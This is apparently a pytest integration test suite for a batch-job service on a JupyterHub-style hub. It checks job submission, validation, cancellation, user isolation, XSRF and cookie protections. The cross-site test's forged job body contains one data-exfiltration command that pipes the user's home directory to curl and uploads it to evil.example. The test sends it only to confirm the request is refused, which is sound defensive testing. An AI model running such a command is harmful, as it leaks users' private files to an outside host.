"""The Bunshin service with a real hub (IAM login, AIInfnSpawner) and the emulated cluster
running containers as local processes. A small helper plays Kueue's part: it creates the
admitted Workload and unsuspends the Job, as Kueue's job integration does."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
import requests
from bunshin_helpers import (
    JOBS_NAMESPACE,
    User,
    admit,
    bunshin_config,
    status_of,
    wait_for_bunshin,
)
from iam_platform import EXAMPLES, NAMESPACE, Hub, running_platform, sign_in, wait_for

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    state = tmp_path_factory.mktemp("bunshin")
    with running_platform(state, extra_config=bunshin_config) as running:
        wait_for_bunshin(running)
        yield running


@pytest.fixture(scope="module")
def alice(hub: Hub) -> User:
    user = User(hub, "alice", "alice-pw")
    user.start_server()
    return user


@pytest.fixture(scope="module")
def bob(hub: Hub) -> User:
    return User(hub, "bob", "bob-pw")


def test_clone_runs_queued_then_succeeds_with_logs(hub: Hub, alice: User) -> None:
    response = alice.call(
        "POST",
        "jobs",
        json={
            "command": ["python", "/sandbox/train.py", "--epochs", "2"],
            "name": "train",
            "sandbox": {"train.py": "import sys\nprint('training', sys.argv[1:])\n"},
            "cpu": 1,
            "memory": "4Gi",
            "env": {"SEED": "42"},
        },
    )
    assert response.status_code == 201, response.text
    job = response.json()
    assert job["status"] == "queued" and job["user"] == "alice" and job["project"] == "cms"
    assert job["command"] == ["python", "/sandbox/train.py", "--epochs", "2"]
    manifest = next(
        j for j in hub.emulator.objects("Job", JOBS_NAMESPACE) if j["metadata"]["name"] == job["id"]
    )
    spec = manifest["spec"]
    assert spec["suspend"] is True
    assert manifest["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "cms"
    pod_spec = spec["template"]["spec"]
    assert pod_spec["priorityClassName"] == "bunshin-batch"
    assert pod_spec["automountServiceAccountToken"] is False
    container = pod_spec["containers"][0]
    assert container["resources"]["requests"] == container["resources"]["limits"]
    names = {e["name"] for e in container["env"]}
    assert "SEED" in names and not [n for n in names if n.startswith(("JUPYTERHUB_", "JPY_"))]
    assert "ownerReferences" not in manifest["metadata"]
    # the hub recorded the pod's UID when it started the server; the clone checked it
    state = hub.admin_get("/users/alice")["servers"][""]["state"]
    (source,) = [
        p
        for p in hub.emulator.objects("Pod", NAMESPACE)
        if p["metadata"]["name"] == state["pod_name"]
    ]
    assert state["pod_uid"] == source["metadata"]["uid"]
    assert manifest["metadata"]["annotations"]["aiinfn.infn.it/source-pod-uid"] == state["pod_uid"]

    admit(hub, job["id"])
    wait_for(lambda: status_of(alice, job["id"]) == "succeeded", 60, "the job to succeed")
    logs = alice.call("GET", f"jobs/{job['id']}/logs").json()
    assert "training ['--epochs', '2']" in logs["pods"][0]["log"]
    listed = alice.call("GET", "jobs").json()
    assert job["id"] in [j["id"] for j in listed]


def test_a_failing_command_fails_at_once_with_its_exit_code_and_log_end(
    hub: Hub, alice: User
) -> None:
    script = "import sys\nfor i in range(40): print('line', i)\nsys.exit(3)\n"
    response = alice.call(
        "POST",
        "jobs",
        json={"command": ["python", "/sandbox/fail.py"], "sandbox": {"fail.py": script}},
    )
    assert response.status_code == 201, response.text
    job_id = response.json()["id"]
    assert response.json()["retries"] == 0
    admit(hub, job_id)
    wait_for(lambda: status_of(alice, job_id) == "failed", 60, "the job to fail")
    job = alice.call("GET", f"jobs/{job_id}").json()
    assert len(job["pods"]) == 1, job["pods"]  # not retried
    assert job["reason"] == "the command failed with exit code 3" and job["exitCode"] == 3
    failure = job["failure"]
    assert failure["exitCode"] == 3 and failure["pod"] == job["pods"][0]["name"]
    # the end of the log, bounded: the last 20 lines
    assert failure["log"].splitlines() == [f"line {i}" for i in range(20, 40)]
    listed = next(j for j in alice.call("GET", "jobs").json() if j["id"] == job_id)
    assert listed["failure"]["log"] == failure["log"]
    # asked for, a retry runs it again, and the reason says so
    retried = alice.call(
        "POST",
        "jobs",
        json={"command": ["python", "-c", "raise SystemExit(5)"], "retries": 1},
    )
    assert retried.status_code == 201, retried.text
    admit(hub, retried.json()["id"])
    wait_for(lambda: status_of(alice, retried.json()["id"]) == "failed", 90, "the retried job")
    again = alice.call("GET", f"jobs/{retried.json()['id']}").json()
    assert len(again["pods"]) == 2 and again["exitCode"] == 5
    assert "(2 times: the job's retries were used up)" in again["reason"]
    too_many = alice.call("POST", "jobs", json={"command": ["true"], "retries": 99})
    assert too_many.status_code == 422 and "retries: at most 3" in too_many.json()["message"]


def test_cancel_stops_a_running_job(hub: Hub, alice: User) -> None:
    response = alice.call("POST", "jobs", json={"command": ["sleep", "600"]})
    assert response.status_code == 201, response.text
    job_id = response.json()["id"]
    admit(hub, job_id)
    wait_for(lambda: status_of(alice, job_id) == "running", 60, "the job to run")
    cancelled = alice.call("DELETE", f"jobs/{job_id}")
    assert cancelled.status_code == 200, cancelled.text
    assert cancelled.json()["status"] == "cancelled"
    wait_for(
        lambda: (
            not [
                p
                for p in hub.emulator.objects("Pod", JOBS_NAMESPACE)
                if (p["metadata"].get("labels") or {}).get("job-name") == job_id
            ]
        ),
        60,
        "the job's pods to go",
    )
    again = alice.call("DELETE", f"jobs/{job_id}")
    assert again.status_code == 409 and again.json()["error"] == "finished"
    # Kueue is told too: the job's Workload is inactive, so it is never admitted again
    (workload,) = [
        w
        for w in hub.emulator.objects("Workload", JOBS_NAMESPACE)
        if w["metadata"]["name"] == f"job-{job_id}"
    ]
    assert workload["spec"]["active"] is False


def test_other_users_jobs_are_invisible_and_untouchable(hub: Hub, alice: User, bob: User) -> None:
    response = alice.call("POST", "jobs", json={"command": ["true"]})
    job_id = response.json()["id"]
    assert bob.call("GET", f"jobs/{job_id}").status_code == 404
    assert bob.call("DELETE", f"jobs/{job_id}").status_code == 404
    assert bob.call("GET", f"jobs/{job_id}/logs").status_code == 404
    assert bob.call("GET", "jobs?user=alice").status_code == 403
    assert job_id not in [j["id"] for j in bob.call("GET", "jobs").json()]
    # bob has no running server: nothing to clone
    refused = bob.call("POST", "jobs", json={"command": ["true"]})
    assert refused.status_code == 409 and refused.json()["error"] == "no-server"
    alice.call("DELETE", f"jobs/{job_id}")


@pytest.mark.parametrize(
    ("body", "status", "error", "message"),
    [
        ({"command": []}, 422, "invalid", "command: give the program to run"),
        ({"command": "python x.py"}, 400, "bad-request", "command: expected a list"),
        ({"command": ["x"], "namespace": "kube-system"}, 400, "bad-request", "unknown field"),
        ({"command": ["x"], "accelerator": {"name": "a100"}}, 422, "invalid", "not available"),
        (
            {"command": ["x"], "cpu": 64},
            422,
            "invalid",
            "cpu 64 is not allowed; choose one of: 1, 2, 4, 8",
        ),
        ({"command": ["x"], "offload": True}, 403, "forbidden", "may not offload"),
        ({"command": ["x"], "project": "qml"}, 403, "forbidden", "not a member of project"),
        ({"command": ["x"], "env": {"JUPYTERHUB_API_TOKEN": "x"}}, 422, "invalid", "env:"),
    ],
)
def test_bad_requests_get_clear_errors_and_create_nothing(
    hub: Hub, alice: User, body: dict[str, Any], status: int, error: str, message: str
) -> None:
    before = len(hub.emulator.objects("Job", JOBS_NAMESPACE))
    response = alice.call("POST", "jobs", json=body)
    assert response.status_code == status, response.text
    assert response.json()["error"] == error and message in response.json()["message"]
    assert len(hub.emulator.objects("Job", JOBS_NAMESPACE)) == before


def test_unauthenticated_calls_are_refused(hub: Hub) -> None:
    response = requests.get(f"{hub.url}/services/bunshin/api/v1/jobs", timeout=10)
    assert response.status_code == 403
    assert response.json()["error"] == "forbidden"


def test_the_cli_submits_follows_and_reports_like_snakemake_expects(hub: Hub, alice: User) -> None:
    import subprocess
    import sys

    env = {
        "PATH": "/usr/bin:/bin",
        "JUPYTERHUB_API_TOKEN": alice.token,
        "BUNSHIN_URL": f"{hub.url}/services/bunshin/api/v1",
    }

    def bunshin(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "aiinfn_hub.bunshin.cli", *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    submitted = bunshin("submit", "--parsable", "--name", "cli", "--", "echo", "from the cli")
    assert submitted.returncode == 0, submitted.stderr
    job_id = submitted.stdout.strip()
    assert job_id.startswith("bunshin-alice-") and "\n" not in job_id
    assert bunshin("status", job_id).stdout == "running\n"  # queued counts as running
    admit(hub, job_id)
    wait_for(lambda: bunshin("status", job_id).stdout == "success\n", 60, "success")
    logs = bunshin("logs", job_id)
    assert logs.returncode == 0 and "from the cli" in logs.stdout
    assert job_id in bunshin("ls").stdout
    missing = bunshin("status", "bunshin-alice-nothere")
    assert missing.returncode == 1 and "no job" in missing.stderr
    usage = bunshin("submit")
    assert usage.returncode == 2 and "give the command" in usage.stderr
    env["JUPYTERHUB_API_TOKEN"] = ""
    assert bunshin("ls").returncode == 2


def fault(hub: Hub, **spec: Any) -> None:
    response = requests.post(
        f"{hub.emulator.url}/_emulator/faults",
        json=spec,
        headers=hub.emulator.auth_headers,
        verify=hub.emulator.ca_file,
        timeout=10,
    )
    assert response.status_code == 200, response.text


def bunshin_jobs(hub: Hub) -> list[str]:
    return [
        j["metadata"]["name"]
        for j in hub.emulator.objects("Job", JOBS_NAMESPACE)
        if j["metadata"]["name"].startswith("bunshin-")
    ]


@pytest.mark.parametrize(
    ("spec", "status", "message"),
    [
        ({"verb": "create", "resource": "jobs", "code": 500}, 503, "nothing was left half-made"),
        ({"verb": "create", "resource": "configmaps", "code": 503}, 503, "sandbox"),
        ({"verb": "get", "resource": "pods", "code": 500}, 503, "reading your server's pod"),
        ({"verb": "create", "resource": "jobs", "code": 403}, 500, "the cluster refused"),
    ],
)
def test_cluster_failures_give_clear_errors_and_leave_nothing_behind(
    hub: Hub, alice: User, spec: dict[str, Any], status: int, message: str
) -> None:
    before = bunshin_jobs(hub)
    fault(hub, action="fail_next", **spec)
    try:
        response = alice.call(
            "POST", "jobs", json={"command": ["true"], "sandbox": {"run.sh": "true"}}
        )
    finally:
        fault(hub, action="clear")
    assert response.status_code == status, response.text
    assert message in response.json()["message"]
    wait_for(lambda: bunshin_jobs(hub) == before, 10, "no job to be left")


def test_too_many_active_jobs_get_409_with_the_numbers(hub: Hub, alice: User) -> None:
    from aiinfn_hub.config import load_platform_config

    limit = load_platform_config(EXAMPLES / "platform.yaml").jobs.max_active_jobs_per_user
    created = []
    try:
        while True:
            response = alice.call("POST", "jobs", json={"command": ["sleep", "60"]})
            if response.status_code != 201:
                break
            created.append(response.json()["id"])
            assert len(created) <= limit
        assert response.status_code == 409, response.text
        body = response.json()
        assert body["error"] == "over-quota" and f"the limit is {limit}" in body["message"]
    finally:
        for job_id in created:
            alice.call("DELETE", f"jobs/{job_id}")


def test_the_page_lists_jobs_and_its_form_clones_and_cancels(hub: Hub, alice: User) -> None:
    import re

    page = alice.session.get(f"{hub.url}/services/bunshin/", timeout=30)
    assert page.status_code == 200, page.text[:500]
    assert "Clone my server as a job" in page.text and "Batch jobs of alice" in page.text
    # the hub's services menu names the service for people
    home = alice.session.get(f"{hub.url}/hub/home", timeout=30)
    assert '<a class="dropdown-item" href="/services/bunshin/">Batch jobs</a>' in home.text
    xsrf = re.search(r'name="_xsrf" value="([^"]+)"', page.text)
    assert xsrf is not None
    before = set(bunshin_jobs(hub))
    # a tampered choice (a model alice's project does not offer) is refused on the page
    refused = alice.session.post(
        f"{hub.url}/services/bunshin/jobs",
        data={
            "_xsrf": xsrf.group(1),
            "command": "python x.py",
            "accelerator": "a100",
            "count": "1",
        },
        timeout=30,
    )
    assert refused.status_code == 422 and "is not available to you" in refused.text
    # said next to the form that caused it, which keeps what was typed
    form = refused.text.split('id="bunshin-submit"', 1)[1]
    assert form.split('role="alert" id="submit-error">', 1)[1].startswith("Not submitted: ")
    assert 'value="python x.py"' in form
    assert set(bunshin_jobs(hub)) == before
    # without the XSRF token the post is refused outright
    forged = alice.session.post(
        f"{hub.url}/services/bunshin/jobs", data={"command": "true"}, timeout=30
    )
    assert forged.status_code == 403 and set(bunshin_jobs(hub)) == before
    done = alice.session.post(
        f"{hub.url}/services/bunshin/jobs",
        data={"_xsrf": xsrf.group(1), "command": "sleep 300", "name": "from-page"},
        timeout=30,
    )
    assert done.status_code == 200 and "Submitted bunshin-alice-" in done.text
    (job_id,) = set(bunshin_jobs(hub)) - before
    assert f'id="job-{job_id}"' in done.text and "from-page" in done.text
    # without JavaScript a cancel is confirmed on a page of its own first
    asked = alice.session.post(
        f"{hub.url}/services/bunshin/jobs/{job_id}/cancel",
        data={"_xsrf": xsrf.group(1), "confirm": "0"},
        timeout=30,
    )
    assert asked.status_code == 200 and "Cancel from-page?" in asked.text
    assert "Yes, cancel the job" in asked.text and status_of(alice, job_id) != "cancelled"
    cancelled = alice.session.post(
        f"{hub.url}/services/bunshin/jobs/{job_id}/cancel",
        data={"_xsrf": xsrf.group(1), "confirm": "1"},
        timeout=30,
    )
    assert cancelled.status_code == 200 and f"Cancelled {job_id}" in cancelled.text
    assert status_of(alice, job_id) == "cancelled"
    logs = alice.session.get(f"{hub.url}/services/bunshin/jobs/{job_id}/logs", timeout=30)
    assert logs.status_code == 200 and "Logs of from-page" in logs.text and job_id in logs.text


def test_offload_is_for_granted_users_and_targets_virtual_nodes(hub: Hub, bob: User) -> None:
    bob.start_server()  # bob is in lhcb-flashsim, whose members may offload
    # (this platform has no storage section: nothing cluster-local to refuse; see the unit
    # tests for the refusal listing NFS and CVMFS volumes)
    accepted = bob.call("POST", "jobs", json={"command": ["true"], "offload": True})
    assert accepted.status_code == 201, accepted.text
    job = accepted.json()
    assert job["offload"] is True and job["project"] == "lhcb-flashsim"
    manifest = next(
        j for j in hub.emulator.objects("Job", JOBS_NAMESPACE) if j["metadata"]["name"] == job["id"]
    )
    tolerations = manifest["spec"]["template"]["spec"]["tolerations"]
    assert any(t["key"] == "virtual-node.interlink/no-schedule" for t in tolerations)
    assert bob.call("GET", "queues").json()["canOffload"] is True
    bob.call("DELETE", f"jobs/{job['id']}")


def test_admins_see_and_cancel_everyones_jobs(hub: Hub, alice: User) -> None:
    admin = User(hub, "root-admin", "admin-pw")
    job_id = alice.call("POST", "jobs", json={"command": ["sleep", "60"]}).json()["id"]
    assert job_id in [j["id"] for j in admin.call("GET", "jobs?user=alice").json()]
    assert job_id in [j["id"] for j in admin.call("GET", "jobs?all=1").json()]
    assert admin.call("GET", f"jobs/{job_id}").status_code == 200
    cancelled = admin.call("DELETE", f"jobs/{job_id}")
    assert cancelled.status_code == 200 and cancelled.json()["status"] == "cancelled"
    assert "root-admin" in cancelled.json()["reason"]


def test_cross_site_posts_with_a_basic_header_are_refused_and_change_nothing(
    hub: Hub, alice: User
) -> None:
    """A browser behind an authenticating proxy adds ``Authorization: Basic`` by itself: it
    must not stand in for the XSRF token of a cookie-authenticated request."""
    base = f"{hub.url}/services/bunshin"
    page = alice.session.get(f"{base}/", timeout=30)  # the service's cookie is set
    assert page.status_code == 200, page.text[:300]
    basic = {"Authorization": "Basic YWxpY2U6YWxpY2UtcHc="}
    before = set(bunshin_jobs(hub))
    body = {"command": ["sh", "-c", "tar c $HOME | curl -T - https://evil.example"]}
    forged = [
        alice.session.post(f"{base}/api/v1/jobs", json=body, headers=basic, timeout=30),
        alice.session.post(
            f"{base}/jobs", data={"command": "true", "name": "forged"}, headers=basic, timeout=30
        ),
    ]
    assert [r.status_code for r in forged] == [403, 403], [r.text[:200] for r in forged]
    assert set(bunshin_jobs(hub)) == before
    victim = alice.call("POST", "jobs", json={"command": ["sleep", "300"]}).json()["id"]
    try:
        cancels = [
            alice.session.delete(f"{base}/api/v1/jobs/{victim}", headers=basic, timeout=30),
            alice.session.post(f"{base}/jobs/{victim}/cancel", headers=basic, timeout=30),
        ]
        assert [r.status_code for r in cancels] == [403, 403], [r.text[:200] for r in cancels]
        assert status_of(alice, victim) == "queued"
    finally:
        alice.call("DELETE", f"jobs/{victim}")
    # the CLI's token (Authorization: token / Bearer) needs no XSRF token
    bearer = requests.post(
        f"{base}/api/v1/jobs",
        json={"command": ["true"]},
        headers={"Authorization": f"Bearer {alice.token}"},
        timeout=30,
    )
    assert bearer.status_code == 201, bearer.text
    alice.call("DELETE", f"jobs/{bearer.json()['id']}")


def test_the_service_cookies_are_same_site_and_its_pages_cannot_be_framed(hub: Hub) -> None:
    session, _ = sign_in(hub, "alice", "alice-pw")
    page = session.get(f"{hub.url}/services/bunshin/", timeout=30)
    assert page.status_code == 200
    assert page.headers["Content-Security-Policy"] == "frame-ancestors 'self'"
    set_cookies = [
        value
        for step in [*page.history, page]
        if "/services/bunshin" in step.url
        for key, value in step.raw.headers.items()
        if key.lower() == "set-cookie"
    ]
    service_cookies = [  # the OAuth state, the login and the XSRF cookies (not deletions)
        c
        for c in set_cookies
        if c.startswith(("service-bunshin", "_xsrf"))
        and c.split(";")[0].split("=", 1)[1] not in ("", '""')
    ]
    assert service_cookies, set_cookies
    assert all("SameSite=Lax" in c for c in service_cookies), service_cookies


def test_jobs_run_in_their_own_namespace_next_to_none_of_the_servers(hub: Hub, alice: User) -> None:
    job_id = alice.call("POST", "jobs", json={"command": ["true"]}).json()["id"]
    try:
        assert job_id in bunshin_jobs(hub)
        assert not [
            j for j in hub.emulator.objects("Job", NAMESPACE) if j["metadata"]["name"] == job_id
        ]
    finally:
        alice.call("DELETE", f"jobs/{job_id}")
